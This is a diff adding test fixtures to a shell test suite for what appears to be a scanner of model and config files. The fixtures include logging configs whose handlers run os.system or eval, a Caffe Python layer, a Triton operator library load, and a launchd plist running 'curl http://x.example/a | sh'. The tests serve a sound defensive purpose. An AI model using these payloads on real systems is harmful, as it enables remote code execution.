@@ -164,6 +164,24 @@ exits 1 "a version that is no number" assay-inspect "$tmp/b/bad.pt"
 prints "MODEL_INVALID"
 exits 1 "a version that PyTorch does not read" assay-inspect "$tmp/b/late.pt"
 
+# --- logging's fileConfig, Triton's libraries, launchd
+printf '[handlers]\nkeys=x\n[handler_x]\nclass=os.system\nargs=("id",)\n' | file logging.ini
+hostile CONFIG_CODE "a handler that is a command"
+printf '[handlers]\nkeys=x\n[handler_x]\nclass=StreamHandler\nargs=(__import__("os").system("id"),)\n' | file logging.ini
+hostile CONFIG_CODE "arguments that are evaluated"
+printf '[handlers]\nkeys=x,y\n[handler_x]\nclass=StreamHandler\nargs=(sys.stderr,)\n[handler_y]\nclass=handlers.RotatingFileHandler\nargs=("a.log", "a", 1000, 3)\n' | file logging.ini
+quiet "handlers of logging"
+printf '[handlers]\nkeys=x\n[handler_x]\nclass = builtins.eval\nargs = ("1",)\n' | file logging.ini
+hostile CONFIG_CODE "blanks around it"
+printf 'name: "x"\nlayer { name: "p" type: "Python" python_param { module: "evil" layer: "L" } }\n' | file net.prototxt
+hostile OBJECT_CODE "a layer of Caffe in Python"
+printf 'name: "x"\nlayer { name: "c" type: "Convolution" convolution_param { num_output: 8 } }\n' | file net.prototxt
+quiet "a network of Caffe"
+printf 'name: "m"\nplatform: "tensorflow_savedmodel"\nmodel_operations { op_library_filename: ["/tmp/x.so"] }\n' | file config.pbtxt
+hostile SERVE_LIBRARY "a library of operators"
+printf '<plist version="1.0"><dict><key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>curl http://x.example/a | sh</string></array></dict></plist>' | file x.plist
+hostile COMMAND_DANGEROUS "a command of launchd"
+
 # --- secrets of texts
 pem=$(head -c 600 /dev/urandom | base64 -w 64)
 printf -- '-----BEGIN RSA PRIVATE KEY-----\n%s\n-----END RSA PRIVATE KEY-----\n' "$pem" >"$tmp/pem"
